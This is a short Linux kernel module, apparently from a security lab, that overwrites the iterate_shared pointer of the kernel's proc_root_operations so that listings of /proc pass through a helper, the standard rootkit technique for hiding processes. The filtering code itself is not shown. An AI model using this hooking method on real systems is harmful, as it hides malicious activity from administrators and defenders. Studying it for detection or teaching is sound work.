// SPDX-License-Identifier: GPL-2.0-only
/* Replaces the file operation that lists /proc. */
#include "lab.h"

static struct file_operations *ops;
static int (*original)(struct file *, struct dir_context *);

static int hooked(struct file *file, struct dir_context *ctx)
{
	return lab_iterate(original, file, ctx);
}

static int __init procops_init(void)
{
	void *ours = hooked;

	ops = (void *)lab_symbol("proc_root_operations");
	if (!ops)
		return -ENOENT;
	original = ops->iterate_shared;
	lab_write(&ops->iterate_shared, &ours, sizeof(ours));
	return 0;
}

static void __exit procops_exit(void)
{
	lab_write(&ops->iterate_shared, &original, sizeof(original));
	lab_drain();
}
module_init(procops_init);
module_exit(procops_exit);
